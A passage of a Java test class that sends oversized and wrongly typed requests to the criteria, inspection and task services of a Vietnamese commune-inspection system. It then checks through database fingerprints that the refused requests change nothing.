    private void oversizeCases(List<Op> ops, Map<String, List<Case>> casesByOp) {
        for (String service : List.of("criteria-service", "inspection-service", "task-service")) {
            Op get = ops.stream().filter(o -> o.service().equals(service) && o.method().equals("GET")
                    && o.in("path").isEmpty()).findFirst().orElseThrow();
            casesByOp.get(service + " " + get.key()).add(new Case("http: request line too long (10 KB)", get,
                    base(service) + get.path() + "?x=" + "A".repeat(10_000), Map.of(), null, Expect.STRICT,
                    "?x=<10,000 chars>"));
            Op post = ops.stream().filter(o -> o.service().equals(service) && o.hasBody()).findFirst().orElseThrow();
            Map<String, String> path = new LinkedHashMap<>();
            post.in("path").forEach(p -> path.put(p.name(), realPathValue(post, p.name())));
            byte[] big = ("{\"x\":\"" + "A".repeat(11 * 1024 * 1024) + "\"}").getBytes(StandardCharsets.UTF_8);
            casesByOp.get(service + " " + post.key()).add(new Case("http: body over the size limit (11 MB)", post,
                    url(post, path, Map.of()), withJson(Map.of()), big, Expect.STRICT, "11 MB JSON body"));
        }
    }

    // ----------------------------------------------------------------------------------------- templates

    private static Map<String, Template> templates() {
        Map<String, Template> t = new LinkedHashMap<>();
        JsonNode golden = SeedInspection.golden();
        ObjectNode set = (ObjectNode) api.json(api.get(base("criteria-service") + "/criteria-sets/" + PUBLISHED_SET
                + "/export"));
        List<String> setRequired = List.of("/code", "/name", "/level", "/tier", "/periodFrom", "/periodTo",
                "/criteria/0/number", "/criteria/0/code", "/criteria/0/name");
        List<String> setEnums = List.of("/level", "/tier");
        List<String> setTexts = List.of("/name", "/legalBasis", "/criteria/0/name", "/criteria/0/englishName",
                "/groups/0/name");
        List<String> setCodes = List.of("/code", "/provinceCode", "/baseSet", "/groups/0/code", "/criteria/0/code",
                "/criteria/0/group", "/criteria/0/sectors/0");
        ObjectNode create = set.deepCopy().put("code", NEW_SET);
        t.put("criteria-service POST /criteria-sets", new Template(create, Map.of(), setRequired, setEnums,
                setTexts, setCodes));
        ObjectNode edit = set.deepCopy().put("code", DRAFT_SET);
        t.put("criteria-service PUT /criteria-sets/{code}", new Template(edit, Map.of(), setRequired, setEnums,
                setTexts, setCodes));
        ObjectNode threshold = json("{\"region\":1,\"year\":2024,\"kind\":\"PERCENT_MIN\",\"value\":80,"
                + "\"unit\":\"%\"}");
        t.put("criteria-service POST /criteria-sets/{code}/criteria/{number}/indicators/{indicator}/thresholds",
                new Template(threshold, Map.of(), List.of("/kind"), List.of("/kind"), List.of("/unit"),
                        List.of("/kind")));
        ObjectNode evaluate = json("{\"region\":1,\"especiallyDisadvantaged\":false,\"safeZone\":false,"
                + "\"year\":2024,\"values\":{\"17.8\":true}}");
        t.put("criteria-service POST /criteria-sets/{code}/evaluate", new Template(evaluate, Map.of(),
                List.of("/region", "/year"), List.of(), List.of("/values/17.8"), List.of()));
        // the import reads text/csv: a JSON body (the hostile variants force application/json) is refused whole
        t.put("criteria-service POST /admin-units/imports", new Template(json("{\"level\":\"province\"}"),
                Map.of(), List.of(), List.of(), List.of(), List.of()));
        // the sector succession import reads text/csv too: a JSON body is refused whole
        t.put("criteria-service POST /sectors/imports", new Template(json("{\"kind\":\"succession\"}"),
                Map.of(), List.of(), List.of(), List.of(), List.of()));
        // legalBasis is free text (any value is legal), so only the typed fields are broken
        t.put("criteria-service PUT /admin-units/{code}/flags", new Template(json("{\"especiallyDisadvantaged\":true,"
                + "\"safeZone\":false,\"validFrom\":\"2025-07-01\"}"), Map.of(),
                List.of("/especiallyDisadvantaged", "/safeZone", "/validFrom"), List.of(), List.of(), List.of()));
        ObjectNode province = json("{\"code\":\"98\",\"name\":\"Tỉnh thử\",\"region\":1}");
        t.put("criteria-service POST /provinces", new Template(province, Map.of(),
                List.of("/code", "/name", "/region"), List.of(), List.of("/name"), List.of("/code")));

        ObjectNode inspection = Api.JSON.createObjectNode();
        for (String field : List.of("title", "inspectedOn", "leadAgency", "legalBasis", "participants", "province",
                "district")) {
            inspection.set(field, golden.get(field));
        }
        ArrayNode communes = inspection.putArray("communes");
        for (JsonNode c : golden.get("communes")) {
            ObjectNode commune = communes.addObject();
            for (String field : List.of("code", "name", "criteriaSet", "targetTier", "targetYear")) {
                commune.set(field, c.get(field));
            }
        }
        inspection.put("assessment", "Đánh giá chung");
        t.put("inspection-service POST /inspections", new Template(inspection, Map.of(),
                // no /district: before 2025-07-01 it is optional (an inspection may span districts), after it absent
                List.of("/title", "/inspectedOn", "/leadAgency", "/province", "/communes",
                        "/communes/0/code", "/communes/0/criteriaSet", "/communes/0/targetTier",
                        "/communes/0/targetYear", "/leadAgency/name", "/province/code"),
                List.of("/communes/0/targetTier", "/leadAgency/type"),
                List.of("/title", "/assessment", "/communes/0/name", "/legalBasis/0/title", "/province/name"),
                List.of("/province/code", "/district/code", "/communes/0/code", "/communes/0/criteriaSet",
                        "/leadAgency/code")));
        ArrayNode findings = Api.JSON.createArrayNode();
        for (JsonNode f : golden.get("communes").get(0).get("findings")) {
            ObjectNode finding = findings.addObject();
            for (String field : List.of("criterion", "result", "note", "remedy", "deadline")) {
                finding.set(field, f.get(field));
            }
        }
        ((ObjectNode) findings.get(0)).put("note", "ghi chú").put("remedy", "khắc phục").putArray("responsible")
                .addObject().put("type", "SO_NGANH").put("code", "20:XD").put("name", "Sở Xây dựng");
        // changes of the draft carry its current ETag, so that a case reaches the body rather than stopping at a
        // missing If-Match (428); a refused case does not move the version
        Map<String, String> draftIfMatch = SeedInspection.ifMatch(api, base("inspection-service"), draftInspection);
        t.put("inspection-service PUT /inspections/{id}/communes/{communeCode}/findings", new Template(findings,
                draftIfMatch, List.of("/0/criterion", "/0/result"), List.of("/0/result", "/0/responsible/0/type"),
                List.of("/0/note", "/0/remedy", "/0/responsible/0/name"), List.of("/0/responsible/0/code")));
        // a correction (đính chính) in the shape of the findings; on the draft every case ends in a 4xx (400 for the
        // body, 409 for a draft), so nothing is ever corrected
        ObjectNode correction = Api.JSON.createObjectNode();
        correction.put("reason", "Đoàn kiểm tra ghi nhầm kết quả tiêu chí 17");
        correction.putArray("communes").addObject().put("code", draftCommune).set("findings", findings.deepCopy());
        t.put("inspection-service POST /inspections/{id}/corrections", new Template(correction, draftIfMatch,
                List.of("/reason", "/communes", "/communes/0/code", "/communes/0/findings"),
                List.of("/communes/0/findings/0/result"),
                List.of("/reason", "/communes/0/findings/0/note", "/communes/0/findings/0/remedy"),
                List.of("/communes/0/code")));
        ObjectNode recommendation = Api.JSON.createObjectNode();
        JsonNode r0 = golden.get("recommendations").get(0);
        for (String field : List.of("assignee", "communeCode", "content", "deadline")) {
            recommendation.set(field, r0.get(field));
        }
        if (recommendation.path("communeCode").isNull()) {
            recommendation.put("communeCode", draftCommune);
        }
        t.put("inspection-service POST /inspections/{id}/recommendations", new Template(recommendation, draftIfMatch,
                List.of("/assignee", "/content", "/assignee/name"), List.of("/assignee/type"),
                List.of("/content", "/assignee/name"), List.of("/assignee/code", "/communeCode")));

        // the notice's fields, sent to the finalized inspection with its ETag: a valid body ends in 409, nothing changes
        t.put("inspection-service PATCH /inspections/{id}", new Template(json("{\"number\":\"15/TB-VPĐP\","
                + "\"place\":\"Hà Tĩnh\",\"signer\":{\"title\":\"Chánh Văn phòng\",\"name\":\"Nguyễn Văn A\"}}"),
                SeedInspection.ifMatch(api, base("inspection-service"), finalInspection), List.of(), List.of(),
                List.of("/number", "/place", "/signer/title", "/signer/name"), List.of()));
        // a Word file is read as bytes: every JSON variant is refused (415 or 4xx) before a template is checked
        t.put("inspection-service PUT /notice-templates/{provinceCode}/{kind}", new Template(json("{\"file\":\"x\"}"),
                Map.of(), List.of(), List.of(), List.of(), List.of()));

        Map<String, String> ifMatch = Map.of("If-Match", "\"" + taskVersion + "\"");
        t.put("task-service PATCH /tasks/{id}", new Template(json("{\"status\":\"IN_PROGRESS\",\"note\":\"x\"}"),
                ifMatch, List.of("/status"), List.of("/status"), List.of("/note"), List.of()));
        t.put("task-service POST /tasks/{id}/notes", new Template(json("{\"note\":\"tiến độ\"}"), Map.of(),
                List.of("/note"), List.of(), List.of("/note"), List.of()));
        // multipart upload: every JSON variant is refused (415 or 4xx) before a file is read
        t.put("task-service POST /tasks/{id}/evidence", new Template(json("{\"file\":\"x\"}"), Map.of(),
                List.of(), List.of(), List.of(), List.of()));
        t.put("task-service POST /tasks/{id}/extensions", new Template(json("{\"dueDate\":\"2027-06-30\","
                + "\"reason\":\"cần thêm thời gian\"}"), Map.of(), List.of("/dueDate", "/reason"), List.of(),
                List.of("/reason"), List.of()));
        Template decision = new Template(json("{\"reason\":\"đồng ý\"}"), Map.of(), List.of(), List.of(),
                List.of("/reason"), List.of());
        t.put("task-service POST /tasks/{id}/extensions/{extensionId}/approve", decision);
        t.put("task-service POST /tasks/{id}/extensions/{extensionId}/reject", decision);
        t.put("task-service POST /tasks/{id}/reassign", new Template(json("{\"assignee\":{\"type\":\"UBND_XA\","
                + "\"code\":\"06523\",\"name\":\"UBND xã Chi Lăng\"},\"reason\":\"giao lại\"}"), Map.of(),
                List.of("/assignee", "/assignee/type", "/assignee/code", "/reason"), List.of("/assignee/type"),
                // codes are not varied here: any code the register copy does not hold valid today within the
                // task's province is a 422 by contract (task-service README "Extensions and reassignment")
                List.of("/reason", "/assignee/name"), List.of()));
        t.put("task-service PUT /task-rules/{code}", new Template(json("{\"trigger\":\"NOT_MET_CRITERION\","
                + "\"assignee\":\"COMMUNE\",\"titleTemplate\":\"Thử {commune}\",\"enabled\":true,\"position\":100,"
                + "\"description\":\"thử\"}"), Map.of(), List.of("/trigger", "/assignee", "/titleTemplate"),
                List.of("/trigger", "/assignee"), List.of("/titleTemplate", "/description"), List.of()));
        return t;
    }

    // ------------------------------------------------------------------------------------------------- HTTP

    private static Outcome send(Case c) {
        HttpRequest.Builder b = HttpRequest.newBuilder(URI.create(c.url())).timeout(Duration.ofSeconds(30))
                .header("Authorization", bearer);
        c.headers().forEach(b::header);
        String method = c.op().method();
        if (c.body() == null) {
            b.method(method, HttpRequest.BodyPublishers.noBody());
        } else {
            b.method(method, HttpRequest.BodyPublishers.ofByteArray(c.body()));
        }
        try {
            HttpResponse<byte[]> r = HTTP.send(b.build(), HttpResponse.BodyHandlers.ofByteArray());
            String contentType = r.headers().firstValue("Content-Type").orElse("");
            // a spreadsheet is a zip: it is opened, and its task rows are what it holds
            String body = contentType.startsWith(XLSX) && r.statusCode() / 100 == 2 ? spreadsheetRows(r.body())
                    : new String(r.body(), StandardCharsets.UTF_8);
            return new Outcome(c, r.statusCode(), contentType, body);
        } catch (IOException e) {
            return new Outcome(c, 0, "", "I/O error: " + e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
    }

    /**
     * The rows of a spreadsheet export below its header, as text ({@code "task rows: 0"} when it holds none), or
     * why it could not be read.
     */
    static String spreadsheetRows(byte[] xlsx) {
        try (org.apache.poi.xssf.usermodel.XSSFWorkbook workbook = new org.apache.poi.xssf.usermodel.XSSFWorkbook(
                new java.io.ByteArrayInputStream(xlsx))) {
            StringBuilder rows = new StringBuilder();
            int count = 0;
            org.apache.poi.ss.usermodel.DataFormatter cells = new org.apache.poi.ss.usermodel.DataFormatter();
            for (int s = 0; s < workbook.getNumberOfSheets(); s++) {
                for (org.apache.poi.ss.usermodel.Row row : workbook.getSheetAt(s)) {
                    if (s == 0 && row.getRowNum() == 0) {
                        continue; // the header
                    }
                    StringBuilder text = new StringBuilder();
                    row.forEach(cell -> text.append(cells.formatCellValue(cell)).append(';'));
                    if (!text.toString().replace(";", "").isBlank()) {
                        count++;
                        rows.append('\n').append(text);
                    }
                }
            }
            return "task rows: " + count + rows;
        } catch (IOException | RuntimeException e) {
            return "not a readable spreadsheet: " + e;
        }
    }

    private static Map<String, String> withJson(Map<String, String> headers) {
        Map<String, String> h = new LinkedHashMap<>(headers);
        h.putIfAbsent("Content-Type", "application/json");
        return h;
    }

    private static String url(Op op, Map<String, String> path, Map<String, String> query) {
        String p = op.path();
        for (Map.Entry<String, String> e : path.entrySet()) {
            p = p.replace("{" + e.getKey() + "}", e.getValue());
        }
        StringBuilder q = new StringBuilder();
        query.forEach((k, v) -> q.append(q.isEmpty() ? "?" : "&").append(k).append('=').append(encode(v)));
        return base(op.service()) + p + q;
    }

    private static String encode(String v) {
        return URLEncoder.encode(v, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static final String XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

    /**
     * A tolerated 2xx must not return data: an empty list, an empty page, zero totals, a CSV header only or a
     * spreadsheet of no task.
     */
    static boolean returnsNothing(String contentType, String body) {
        if (contentType.startsWith(XLSX)) {
            return body.equals("task rows: 0");
        }
        if (contentType.startsWith("text/csv")) {
            return body.lines().filter(l -> !l.isBlank()).count() <= 1;
        }
        try {
            JsonNode n = Api.JSON.readTree(body);
            if (n.isArray()) {
                return n.isEmpty();
            }
            if (n.has("items")) {
                return n.get("items").isEmpty();
            }
            if (n.has("inspections")) {
                return n.get("inspections").isEmpty();
            }
            if (n.has("all")) {
                return n.get("all").path("total").asLong() == 0;
            }
            return false;
        } catch (IOException e) {
            return false;
        }
    }

    // --------------------------------------------------------------------------------------------- database

    /** Table → "rows:md5 of the rows' text in order", for every table of the three databases. */
    private static Map<String, String> fingerprint() throws SQLException {
        Map<String, String> out = new TreeMap<>();
        for (String db : List.of("criteria", "inspection", "task")) {
            try (Connection c = connect(db); Statement st = c.createStatement()) {
                List<String> tables = new ArrayList<>();
                try (ResultSet rs = st.executeQuery("select table_name from information_schema.tables where"
                        + " table_schema = 'public' and table_type = 'BASE TABLE' order by 1")) {
                    while (rs.next()) {
                        tables.add(rs.getString(1));
                    }
                }
                for (String table : tables) {
                    try (ResultSet rs = st.executeQuery("select count(*), md5(coalesce(string_agg(t::text, E'\\n'"
                            + " order by t::text), '')) from \"" + table + "\" t")) {
                        rs.next();
                        out.put(db + "." + table, rs.getLong(1) + ":" + rs.getString(2));
                    }
                }
            }
        }
        return out;
    }

    private static Connection connect(String db) throws SQLException {
        return stack.database(db);
    }

    private static long count(String db, String sql) throws SQLException {
        try (Connection c = connect(db); Statement st = c.createStatement(); ResultSet rs = st.executeQuery(sql)) {
            rs.next();
            return rs.getLong(1);
        }
    }

    /**
     * Waits until nothing changes by itself any more: every outbox drained, every consumer group at the end of its
     * topics (so the tasks of the finalized inspection are created), and the tables the same twice in a row (the
     * deadline job is off for this stack).
     */
    private static void awaitQuiescence() throws Exception {
        long deadline = System.nanoTime() + Duration.ofSeconds(120).toNanos();
        Map<String, String> last = Map.of();
        while (System.nanoTime() < deadline) {
            long pending = count("criteria", "select count(*) from outbox_event where published_at is null")
                    + count("inspection", "select count(*) from outbox_event where published_at is null")
                    + count("task", "select count(*) from outbox_event where published_at is null");
            Map<String, String> now = fingerprint();
            if (pending == 0 && stack.consumersCaughtUp() && now.equals(last)) {
                return;
            }
            last = now;
            Thread.sleep(200);
        }
        throw new AssertionError("the databases did not settle before the hostile cases");
    }

    private static String diff(Map<String, String> before, Map<String, String> after) {
        Set<String> tables = new LinkedHashSet<>(before.keySet());
        tables.addAll(after.keySet());
        List<String> changed = new ArrayList<>();
        for (String t : tables) {
            if (!java.util.Objects.equals(before.get(t), after.get(t))) {
                changed.add(t + " rows " + count(before.get(t)) + "->" + count(after.get(t)));
            }
        }
        return String.join(", ", changed);
    }

    private static String count(String fingerprint) {
        return fingerprint == null ? "-" : fingerprint.substring(0, fingerprint.indexOf(':'));
    }

    // ----------------------------------------------------------------------------------------- JSON helpers

    private static ObjectNode json(String s) {
        try {
            return (ObjectNode) Api.JSON.readTree(s);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] bytes(JsonNode n) {
        try {
            return Api.JSON.writeValueAsBytes(n);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    private static JsonNode at(JsonNode root, String pointer) {
        return root.at(pointer);
    }

    /** Sets the value at a JSON pointer whose parent exists (an array index replaces, or appends at the end). */
    private static void set(JsonNode root, String pointer, Object value) {
        int slash = pointer.lastIndexOf('/');
        JsonNode parent = root.at(pointer.substring(0, slash));
        String last = pointer.substring(slash + 1);
        JsonNode v = value instanceof JsonNode n ? n : JsonNodeFactory.instance.textNode((String) value);
        if (parent instanceof ObjectNode o) {
            o.set(last, v);
        } else if (parent instanceof ArrayNode a) {
            int i = Integer.parseInt(last);
            if (i < a.size()) {
                a.set(i, v);
            } else {
                a.add(v);
            }
        } else {
            throw new IllegalArgumentException("no parent for " + pointer);
        }
    }

    private static void remove(JsonNode root, String pointer) {
        int slash = pointer.lastIndexOf('/');
        JsonNode parent = root.at(pointer.substring(0, slash));
        String last = pointer.substring(slash + 1);
        if (parent instanceof ObjectNode o) {
            o.remove(last);
        } else if (parent instanceof ArrayNode a) {
            a.remove(Integer.parseInt(last));
        }
    }

    /** Leaf pointers of a document, following only the first element of each array. */
    private static Map<String, JsonNode> leaves(JsonNode node, String at) {
        Map<String, JsonNode> out = new LinkedHashMap<>();
        if (node instanceof ContainerNode<?> && node.size() > 0) {
            if (node.isArray()) {
                out.putAll(leaves(node.get(0), at + "/0"));
            } else {
                Iterator<Map.Entry<String, JsonNode>> it = node.fields();
                while (it.hasNext()) {
                    Map.Entry<String, JsonNode> e = it.next();
                    out.putAll(leaves(e.getValue(), at + "/" + e.getKey().replace("~", "~0").replace("/", "~1")));
                }
            }
        } else if (!at.isEmpty()) {
            out.put(at, node);
        }
        return out;
    }

    private static List<JsonNode> wrongTypes(JsonNode current) {
        JsonNodeFactory f = JsonNodeFactory.instance;
        ObjectNode object = f.objectNode().put("wrong", "type");
        ArrayNode array = f.arrayNode().add("wrong").add("type");
        if (current.isTextual()) {
            List<JsonNode> out = new ArrayList<>(List.of(object, array));
            if (current.asText().matches("\\d{4}-\\d{2}-\\d{2}")) {
                out.add(f.textNode("2022-13-45"));
            }
            return out;
        }
        if (current.isNumber()) {
            return List.of(f.textNode("not-a-number"), object);
        }
        if (current.isBoolean()) {
            return List.of(f.textNode("not-a-boolean"), object);
        }
        if (current.isArray()) {
            return List.of(f.textNode("not-an-array"), object);
        }
        if (current.isObject()) {
            return List.of(f.textNode("not-an-object"), array);
        }
        return List.of(object); // null in the template: any object is wrong for a scalar field
    }

    private static byte[] splice(byte[] body, byte[] bad) {
        String s = new String(body, StandardCharsets.UTF_8);
        int i = s.indexOf("@@BAD@@");
        byte[] before = s.substring(0, i).getBytes(StandardCharsets.UTF_8);
        byte[] after = s.substring(i + "@@BAD@@".length()).getBytes(StandardCharsets.UTF_8);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(before);
        out.writeBytes(bad);
        out.writeBytes(after);
        return out.toByteArray();
    }

    private static String hex(byte[] bytes) {
        StringBuilder sb = new StringBuilder();
        for (byte b : bytes) {
            sb.append(String.format("%02X ", b));
        }
        return sb.toString().trim();
    }

    private static String first(List<String> a, List<String> b) {
        return !a.isEmpty() ? a.get(0) : b.isEmpty() ? null : b.get(0);
    }

    private static List<String> concat(List<String> a, List<String> b) {
        List<String> out = new ArrayList<>(a);
        out.addAll(b);
        return out;
    }

    private static String abbreviate(String s, int max) {
        String oneLine = s.replace('\n', ' ').replace('\r', ' ');
        return oneLine.length() <= max ? oneLine : oneLine.substring(0, max) + "…(" + s.length() + " chars)";
    }
}
